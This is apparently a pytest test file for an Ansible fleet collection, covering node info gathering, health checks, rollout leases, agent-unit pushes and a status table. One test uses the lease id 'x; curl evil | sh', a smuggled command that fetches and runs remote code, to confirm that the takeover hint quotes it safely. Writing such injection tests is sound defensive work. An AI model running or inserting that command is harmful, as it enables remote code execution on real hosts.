"""Tasks that ask a node, hold it for a rollout, or give it agents of its own."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest
from action_world import Node, answer
from ansible.errors import AnsibleActionFail

from ansible_collections.kos.fleet.plugins.action import health, lease, node_info, node_units
from ansible_collections.kos.fleet.plugins.filter.fleet_table import fleet_table
from ansible_collections.kos.fleet.plugins.plugin_utils._node import KEEPALIVE


def test_what_was_asked_for_is_gathered_and_findings_are_no_failure() -> None:
    findings = answer(12, message="1 found", result={"findings": [{"text": "clock"}]})
    node = Node(status=answer(result={"state": "CONFIRMED"}), doctor=findings)
    result = node.run(node_info, {"gather": ["status", "doctor"]})
    assert node.verbs == ["status", "doctor"]
    assert not result.get("failed")
    assert result["doctor"] == {"findings": [{"text": "clock"}]}


def test_an_error_is_a_failure_and_not_an_empty_answer() -> None:
    assert Node(status=answer(1, message="journal is damaged")).run(node_info, {})["failed"]


def test_a_node_that_is_not_healthy_fails_with_its_reason() -> None:
    bad = answer(11, message="not healthy: kosd answers 500", result={"healthy": False})
    result = Node(health=bad).run(health, {})
    assert (result["failed"], result["healthy"]) == (True, False)
    assert "kosd answers 500" in result["msg"]
    assert Node(health=answer(result={"healthy": True})).run(health, {})["healthy"]


def test_a_lease_is_taken_renewed_and_given_back() -> None:
    held = answer(result={"lease": {"id": "r1"}})
    node = Node(lease=[answer(result={"lease": None}), held])
    args = {"id": "r1", "holder": "ada@here", "ttl": 60}
    assert node.run(lease, args)["changed"]
    assert node.asked[1][1] == {"take": "r1", "holder": "ada@here", "ttl_s": 60}
    assert not node.run(lease, args)["changed"]
    assert node.run(lease, {"id": "r1", "state": "absent"})["changed"]
    assert node.asked[-1][1] == {"release": "r1"}


def test_the_lease_of_another_is_not_given_back_and_not_taken() -> None:
    other = answer(result={"lease": {"id": "r2", "holder": "ben"}})
    node = Node(lease=other)
    assert not node.run(lease, {"id": "r1", "state": "absent"})["changed"]
    assert [options for _verb, options in node.asked] == [{}]
    refused = Node(lease=[other, answer(3, message="the node is leased to ben")])
    assert "leased to ben" in refused.run(lease, {"id": "r1"})["msg"]


def test_a_link_that_is_cut_is_noticed_from_the_first_connection_on() -> None:
    node = Node(lease=answer(result={"lease": None}))
    node.run(lease, {"id": "r1", "state": "absent"})
    assert node.connection.options["ssh_extra_args"] == KEEPALIVE


def test_a_lease_that_a_rollout_of_ours_left_behind_is_given_back_first() -> None:
    left = answer(result={"lease": {"id": "r0", "holder": "ada"}})
    held = answer(result={"lease": {"id": "r1"}})
    node = Node(lease=[left, answer(result={"lease": None}), held])
    assert node.run(lease, {"id": "r1", "left": ["r0"]})["changed"]
    assert [sorted(options) for _verb, options in node.asked] == [[], ["release"], ["take", "ttl_s"]]
    assert node.asked[1][1] == {"release": "r0"}

    # Also at the end, where it could not be done at the beginning.
    node = Node(lease=[left, answer(result={"lease": None})])
    assert node.run(lease, {"id": "r1", "left": ["r0"], "state": "absent"})["changed"]
    assert node.asked[-1][1] == {"release": "r0"}
    assert "failed" not in Node(lease=left).run(lease, {"id": "r1", "left": ["r0"]}, check=True)


def test_check_mode_takes_no_lease() -> None:
    node = Node(lease=answer(result={"lease": None}))
    node.run(lease, {"id": "r1"}, check=True)
    assert [options for _verb, options in node.asked] == [{}]


def test_check_mode_reports_the_lease_of_another_and_how_to_take_it_over() -> None:
    node = Node(lease=answer(result={"lease": {"id": "r2", "holder": "ben", "expires_in_s": 9}}))
    result = node.run(lease, {"id": "r1", "takeover": "patch_lease"}, check=True)
    assert result["failed"]
    assert "leased to ben (lease r2) for another 9 s" in result["msg"]
    assert "-e patch_lease=r2" in result["msg"]


def test_a_line_to_copy_holds_no_command_of_the_node() -> None:
    node = Node(lease=answer(result={"lease": {"id": "x; curl evil | sh", "holder": "ben"}}))
    result = node.run(lease, {"id": "r1", "takeover": "patch_lease"}, check=True)
    assert result["msg"].endswith("-e patch_lease='x; curl evil | sh'")


@pytest.mark.parametrize(
    "told", [answer(result={"lease": "r1"}), answer(result=["r1"]), answer(status="r1"), answer(exit="x")]
)
def test_an_answer_about_a_lease_that_is_none_is_told_as_such(told: dict[str, Any]) -> None:
    node = Node(lease={**told, "exit": told["exit"]})
    with pytest.raises(AnsibleActionFail, match="kosctl lease gave"):
        node.run(lease, {"id": "r1"})


class Host:
    """Notes what `kosctl host` is asked."""

    def __init__(self, **told: Any) -> None:
        self.told = {
            "ok": True,
            "exit": 0,
            "changed": True,
            "actions": ["start scribe"],
            "result": {},
            **told,
        }
        self.spec: dict[str, Any] = {}

    def run(self, args: dict[str, Any], *, check: bool = False) -> Any:
        made = Node().action(node_units, args, check=check)

        def execute(_command: str, in_data: bytes = b"", **_options: Any) -> dict[str, Any]:
            self.spec = json.loads(in_data)
            stdout = "" if self.told["exit"] == 127 else json.dumps(self.told)
            return {"rc": self.told["exit"], "stdout": stdout, "stderr": ""}

        made._low_level_execute_command = execute  # type: ignore[method-assign]  # no host here
        return made.run(None, {"inventory_hostname": "n1"})


def test_agents_reach_the_node_whole_in_one_transaction(tmp_path: Path) -> None:
    """S15."""
    (tmp_path / "unit.yml").write_text("id: scribe\nversion: 1.0.0\n")
    (tmp_path / "program").write_bytes(b"\x00\xff")
    files = [{"path": "bin/scribe", "src": str(tmp_path / "program"), "mode": "0555"}]
    host = Host()
    host.run({"units": [{"name": "scribe", "unit": str(tmp_path / "unit.yml"), "files": files}]})
    assert list(host.spec) == ["format", "units"]
    scribe = host.spec["units"]["scribe"]
    assert scribe["unit"] == {"id": "scribe", "version": "1.0.0"}
    assert base64.b64decode(scribe["files"]["bin/scribe"]["base64"]) == b"\x00\xff"


@pytest.mark.parametrize(
    ("unit", "words"),
    [
        ({"name": "a"}, "unit"),
        ({"name": "a", "unit": "/no/unit.yml"}, "/no/unit.yml is not there"),
        ({"name": "a", "unit": {}, "files": [{"path": "x"}]}, "src, content"),
        ({"name": "a", "unit": {}, "files": [{"path": "x", "content": "", "mode": "0777"}]}, "0777"),
    ],
)
def test_a_bad_agent_is_refused_before_the_node_is_asked(unit: dict[str, Any], words: str) -> None:
    host = Host()
    with pytest.raises(AnsibleActionFail, match=words):
        host.run({"units": [unit]})
    assert host.spec == {}


def test_check_mode_without_kosctl_is_what_the_controller_knows() -> None:
    result = Host(exit=127).run({"units": [{"name": "a", "unit": {}}]}, check=True)
    assert (result["changed"], result["plan_by"]) == (True, "controller")
    assert Host(exit=127).run({"units": []})["changed"] is False
    assert Host(exit=127).run({"units": [{"name": "a", "unit": {}}]})["failed"]


def test_the_table_shows_every_node_and_hides_no_silence() -> None:
    good = {
        "installed": True,
        "status": {
            "state": "CONFIRMED",
            "node": {"zone": "a"},
            "current": {"name": "kos", "version": "1.0.0"},
        },
        "health": {"healthy": True},
        "doctor": {"findings": [1, 2]},
    }
    nodes = {"n1": good, "n2": {"unreachable": True}, "n3": {"failed": True}, "n4": {"installed": False}}
    lines = fleet_table(nodes)
    assert lines[1].split() == ["n1", "a", "CONFIRMED", "kos", "1.0.0", "healthy", "-", "2"]
    assert [line.split("  ")[0].strip() for line in lines[1:]] == ["n1", "n2", "n3", "n4"]
    assert "UNREACHABLE" in lines[2]
    assert "NO ANSWER" in lines[3]
    assert "NO KOSCTL" in lines[4]


def test_health_that_was_not_measured_is_unknown() -> None:
    assert "unknown" in fleet_table({"n1": {"installed": True}})[1]
